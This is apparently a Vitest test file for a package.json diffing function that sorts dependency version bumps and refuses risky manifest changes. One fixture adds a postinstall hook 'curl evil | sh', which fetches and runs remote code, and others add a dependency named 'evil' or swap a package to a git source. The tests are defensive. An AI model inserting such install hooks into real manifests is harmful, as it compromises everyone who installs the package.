import { describe, expect, it } from 'vitest';
import { diffManifest } from '../../src/automerge/manifest-diff.ts';

const base = {
  name: 'app',
  scripts: { test: 'vitest' },
  dependencies: { lodash: '^4.17.20', react: '^18.2.0' },
  devDependencies: { '@types/node': '^24.0.0' },
};
const text = (value: unknown) => JSON.stringify(value, null, 2) + '\n';

describe('diffManifest', () => {
  it('lists each changed dependency with its kind and update type', () => {
    const after = {
      ...base,
      dependencies: { lodash: '^4.17.21', react: '^19.0.0' },
      devDependencies: { '@types/node': '^24.1.0' },
    };
    const diff = diffManifest('package.json', text(base), text(after));
    expect(diff.problems).toEqual([]);
    expect(diff.changes).toEqual([
      expect.objectContaining({
        name: 'lodash',
        kind: 'dependencies',
        from: '^4.17.20',
        to: '^4.17.21',
        updateType: 'patch',
      }),
      expect.objectContaining({ name: 'react', kind: 'dependencies', updateType: 'major' }),
      expect.objectContaining({
        name: '@types/node',
        kind: 'devDependencies',
        updateType: 'minor',
      }),
    ]);
  });

  it.each([
    [
      'scripts',
      { ...base, scripts: { test: 'vitest', postinstall: 'curl evil | sh' } },
      /field "scripts" changed/,
    ],
    ['bin', { ...base, bin: { x: 'x.js' } }, /field "bin" changed/],
    [
      'an added dependency',
      { ...base, dependencies: { ...base.dependencies, evil: '1.0.0' } },
      /adds "evil"/,
    ],
    ['a removed dependency', { ...base, dependencies: { lodash: '^4.17.20' } }, /removes "react"/],
    [
      'a git source swap',
      { ...base, dependencies: { ...base.dependencies, lodash: 'github:evil/lodash' } },
      /lodash/,
    ],
  ])('refuses %s', (_label, after, problem) => {
    const diff = diffManifest('package.json', text(base), text(after));
    expect(diff.problems).toEqual([expect.stringMatching(problem)]);
  });

  it('reads nested overrides and packageManager as versions', () => {
    const before = { ...base, overrides: { foo: { bar: '1.0.0' } }, packageManager: 'pnpm@9.1.0' };
    const after = {
      ...base,
      overrides: { foo: { bar: '1.0.1' } },
      packageManager: 'pnpm@9.2.0+sha512.abc',
    };
    const diff = diffManifest('package.json', text(before), text(after));
    expect(diff.problems).toEqual([]);
    expect(diff.changes.map((c) => [c.name, c.updateType])).toEqual([
      ['foo > bar', 'patch'],
      ['pnpm', 'minor'],
    ]);
  });

  it('names invalid JSON on either side', () => {
    expect(diffManifest('a/package.json', '{', text(base)).problems[0]).toMatch(
      /a\/package.json \(before\): invalid JSON/,
    );
  });
});
